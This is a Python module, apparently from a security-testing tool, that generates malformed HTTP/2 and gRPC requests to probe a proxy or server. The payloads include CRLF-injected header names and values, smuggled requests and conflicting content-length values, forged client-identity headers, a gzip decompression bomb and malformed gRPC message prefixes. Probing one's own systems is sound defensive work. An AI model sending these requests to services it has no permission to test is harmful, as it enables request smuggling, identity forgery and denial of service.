"""Calls that say something wrong: in their fields, their lengths, their messages, their trailers.

Sources: RFC 9113 sections 8.1 to 8.3; "HTTP/2: The Sequel is Always Worse" (James Kettle,
portswigger.net/research/http2); gRPC over HTTP/2 (grpc.github.io, PROTOCOL-HTTP2).
"""

import gzip
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import TypeAlias

from watertight.attack.raw_frames import END_STREAM, Fields, data, headers
from watertight.dataplane.attacks.requests import EMPTY_RPC
from watertight.dataplane.attacks.rpc.strike import FORGED, Aim, Strike

ANSWER_SECONDS = 0.3
"""How long an answer is waited for that may never come: what was asked is no whole request."""
BOMB_BYTES = 16_777_216
"""Unpacked; above what a gRPC server takes (4 MiB), and no harm to a host that unpacks it."""
PSEUDO = (":method", ":scheme", ":authority", ":path")
IDENTITY = ("x-forwarded-client-cert", "x-watertight-subject", "x-watertight-client")


@dataclass(frozen=True, slots=True)
class Call:
    """One call, as it is sent."""

    fields: Fields
    body: bytes = EMPTY_RPC
    trailers: tuple[Fields, ...] = ()


Make: TypeAlias = Callable[[Aim], Call]


def calls() -> dict[str, tuple[Strike, ...]]:
    """Probe id → every way in which it is tried."""
    return {
        "grpc.fields": tuple(_fields()),
        "grpc.pseudo-fields": tuple(_pseudo()),
        "grpc.identity": tuple(_identity()),
        "grpc.lengths": tuple(_lengths()),
        "grpc.messages": tuple(_messages()),
        "grpc.trailers": tuple(_trailers()),
    }


def _strike(what: str, make: Make, *, past_proxy: bool = False) -> Strike:
    async def play(aim: Aim) -> None:
        call = make(aim)
        connection = await aim.usual()
        stream = connection.new_stream()
        said = headers(stream, call.fields) + data(
            stream, aim.body(call.body), end=not call.trailers
        )
        for number, fields in enumerate(call.trailers):
            said += headers(stream, fields, end=number == len(call.trailers) - 1)
        await connection.send(said)
        await connection.listen(ANSWER_SECONDS, lambda: connection.replies[stream].over)

    return Strike(what, play, alone=False, past_proxy=past_proxy)


def _with(what: str, *more: tuple[str, str]) -> Strike:
    return _strike(what, lambda aim: Call(aim.fields(*more)))


def _fields() -> Iterator[Strike]:
    for name, value in (
        ("te", "gzip"),
        ("te", "trailers, chunked"),
        ("connection", "close"),
        ("connection", "te, x-forwarded-client-cert"),
        ("keep-alive", "timeout=1"),
        ("proxy-connection", "keep-alive"),
        ("transfer-encoding", "chunked"),
        ("upgrade", "websocket"),
        ("http2-settings", "AAMAAABkAAQ"),
        ("X-Upper", "a"),
        ("x-space ", "a"),
        (" x-space", "a"),
        ("x-colon:", "a"),
        ("x-nul\0", "a"),
        ("", "a"),
        ("x-a", " a"),
        ("x-a", "b\0c"),
        ("x-a", "b\rc: d"),
        ("x_forwarded_client_cert", FORGED),
        ("host", "watertight.example"),
    ):
        yield _with(f"{name!r}: {value!r}", (name, value))
    yield _strike(
        "a request in a value",
        lambda aim: Call(aim.fields(("x-a", f"b\r\n\r\nPOST {aim.marks.hidden} HTTP/2\r\n\r\n"))),
    )
    yield _strike(
        "a header in a name",
        lambda aim: Call(aim.fields((f"x-a: b\r\n{IDENTITY[0]}: {FORGED}\r\nx-c", "d"))),
    )


def _pseudo() -> Iterator[Strike]:
    for what, before in (("before", True), ("behind", False)):
        yield _strike(f"a second :path {what} the right one", _second_path(before=before))
    for end in ("\r\nx: y", "\n", "\0", " HTTP/1.1\r\nx: y\r\n\r\n", "#", " "):
        yield _strike(
            f"a :path with {end[:4]!r} in it",
            lambda aim, end=end: Call(aim.fields(path=f"{aim.side.base.target}{end}")),  # type: ignore[misc]
        )
    for path in ("", "*", "//", "x"):
        yield _strike(f"{path!r} for a :path", lambda aim, path=path: Call(aim.fields(path=path)))  # type: ignore[misc]
    yield _strike("no :path", lambda aim: Call([f for f in aim.fields() if f[0] != ":path"]))
    yield _strike("no :method", lambda aim: Call([f for f in aim.fields() if f[0] != ":method"]))
    yield _strike("two :authority", lambda aim: Call([(":authority", "a"), *aim.fields()]))
    for authority in ("a@b", "a\r\nx: y", "a, b", ""):
        yield _strike(
            f"{authority!r} for an :authority",
            lambda aim, authority=authority: Call(aim.fields(authority=authority)),  # type: ignore[misc]
        )
    yield _strike(
        ":path among the other fields",
        lambda aim: Call(
            [
                *(f for f in aim.fields() if f[0] != ":path"),
                (":path", aim.marks.hidden),
            ]
        ),
    )
    yield _with(":protocol, of an extended CONNECT", (":protocol", "websocket"))
    yield _with(":status in a request", (":status", "200"))
    yield _with("a pseudo-header field that nobody knows", (":watertight", "a"))
    yield _strike("two words for a :method", lambda aim: Call(aim.fields(method="POST /")))


def _second_path(*, before: bool) -> Make:
    def make(aim: Aim) -> Call:
        at = 0 if before else len(PSEUDO)
        fields = aim.fields()
        return Call([*fields[:at], (":path", aim.marks.hidden), *fields[at:]])

    return make


def _identity() -> Iterator[Strike]:
    for name in IDENTITY:
        forged = (name, f"URI={FORGED}")
        yield _with(f"{name} of its own writing", forged)
        yield _with(f"{name} twice", forged, forged)
        yield _with(f"{name} with underscores", (name.replace("-", "_"), forged[1]))
        yield _strike(
            f"{name} before all others",
            lambda aim, f=forged: Call([f, *aim.fields()]),  # type: ignore[misc]
        )
        yield _strike(
            f"{name} in trailers",
            lambda aim, f=forged: Call(aim.fields(), trailers=((f,),)),  # type: ignore[misc]
        )
    yield _with("x-envoy-original-path", ("x-envoy-original-path", "/"))
    yield _with("x-forwarded-host", ("x-forwarded-host", FORGED))
    yield _with("a mark behind a forged identity", (IDENTITY[0], f"URI={FORGED},By={FORGED}"))


def _lengths() -> Iterator[Strike]:
    """H2.CL."""
    for what, length in {
        "nothing": "0",
        "too little": "1",
        "too much": "99",
        "a signed number": "+5",
        "a negative number": "-1",
        "two numbers": "5, 0",
        "a number of 65 bits": str(2**64 + 5),
    }.items():
        yield _with(f"a length of {what}", ("content-length", length))
    yield _with("two lengths", ("content-length", "5"), ("content-length", "0"))


def _messages() -> Iterator[Strike]:
    """A server may end a connection over one of them: no other call of the caller is on it here."""
    for value in ("99999999H", "9999999999H", "-1S", "0n", "1H1", ""):
        timeout = ("grpc-timeout", value)
        yield _strike(
            f"grpc-timeout: {value!r}",
            lambda aim, timeout=timeout: Call(aim.fields(timeout)),  # type: ignore[misc]
            past_proxy=True,
        )
    bomb = gzip.compress(b"\0" * BOMB_BYTES)
    yield _message("gzip that unpacks to 16 MiB", b"\x01", len(bomb), bomb, "gzip")
    yield _message("a compression that nobody knows", b"\x01", 1, b"x", "watertight")
    yield _message("a compressed message in no compression", b"\x01", 1, b"x", "identity")
    yield _message("a flag that does not exist", b"\xff", 0, b"", "identity")
    yield _message("a length of 4 GiB", b"\0", 2**32 - 1, b"x", "identity")
    yield _message("less than the length says", b"\0", 9, b"x", "identity")
    yield _message("a second message", b"\0", 0, EMPTY_RPC, "identity")
    yield _strike("no message at all", lambda aim: Call(aim.fields(), b""), past_proxy=True)


def _message(what: str, flag: bytes, length: int, content: bytes, encoding: str) -> Strike:
    """A message with its prefix of five bytes (gRPC over HTTP/2, "Length-Prefixed-Message")."""
    body = flag + length.to_bytes(4) + content
    field = ("grpc-encoding", encoding)
    return _strike(what, lambda aim: Call(aim.fields(field), body), past_proxy=True)


def _trailers() -> Iterator[Strike]:
    for fields in (
        (("te", "trailers"),),
        (("connection", "close"),),
        (("content-length", "0"),),
        (("transfer-encoding", "chunked"),),
        (("host", "watertight.example"),),
        (("authorization", "Bearer watertight"),),
        (("x-http-method-override", "DELETE"),),
        (("grpc-status", "0"),),
        (("X-Upper", "a"),),
        (("x-a", "b\r\nc: d"),),
    ):
        yield _strike(
            f"{fields[0][0]!r} in trailers",
            lambda aim, fields=fields: Call(aim.fields(), trailers=(fields,)),  # type: ignore[misc]
        )
    for name in (*PSEUDO, ":status"):
        yield _strike(
            f"{name} in trailers",
            lambda aim, name=name: Call(  # type: ignore[misc]
                aim.fields(), trailers=(((name, aim.marks.hidden),),)
            ),
        )
    yield _strike(
        "another request's fields for trailers",
        lambda aim: Call(aim.fields(), trailers=(aim.fields(path=aim.marks.hidden),)),
    )
    yield _strike(
        "trailers twice",
        lambda aim: Call(aim.fields(), trailers=((("x-a", "b"),), (("x-a", "c"),))),
    )
    yield Strike("a message behind the trailers", _behind_trailers, alone=False, past_proxy=False)


async def _behind_trailers(aim: Aim) -> None:
    connection = await aim.usual()
    stream = connection.new_stream()
    said = headers(stream, aim.fields()) + data(stream, aim.body(), end=False)
    said += headers(stream, (("x-a", "b"),), end=True)
    await connection.send(said + data(stream, EMPTY_RPC, end=bool(END_STREAM)))
    await connection.listen(ANSWER_SECONDS, lambda: connection.replies[stream].over)
